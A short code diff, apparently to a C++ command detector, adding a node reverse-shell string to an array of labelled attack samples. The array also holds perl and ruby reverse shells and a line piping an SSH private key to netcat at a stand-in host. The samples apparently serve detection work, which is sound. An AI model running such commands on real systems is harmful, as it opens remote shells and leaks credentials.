@@ -74,6 +74,8 @@ constexpr Shape kAttacks[] = {
      "reverse_shell", Severity::Critical},
     {"perl -e 'use Socket;connect(S,1);open(STDIN,\"S\");exec(\"/bin/sh -i\")'", "reverse_shell",
      Severity::Critical},
+    {"node -e 'sh=require(\"child_process\").spawn(\"/bin/sh\");require(\"net\").connect(1,\"h\")'",
+     "reverse_shell", Severity::Critical},
     {"ruby -rsocket -e'spawn(\"sh\",[:in]=>TCPSocket.new(\"h\",9))'", "reverse_shell",
      Severity::Critical},
     {"cat /home/u/.ssh/id_rsa | nc x.example 80", "exfiltration", Severity::High},
